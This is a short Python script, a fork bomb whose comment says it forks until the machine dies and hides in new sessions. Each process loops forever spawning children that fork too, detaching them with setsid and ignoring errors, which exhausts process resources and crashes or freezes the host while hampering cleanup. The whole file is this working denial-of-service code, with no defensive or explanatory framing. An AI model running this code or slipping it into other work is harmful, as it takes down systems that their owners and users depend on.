# Fork until the machine dies (each child forks too), and hide in new sessions.
import os
while True:
    try:
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass
    except OSError:
        pass
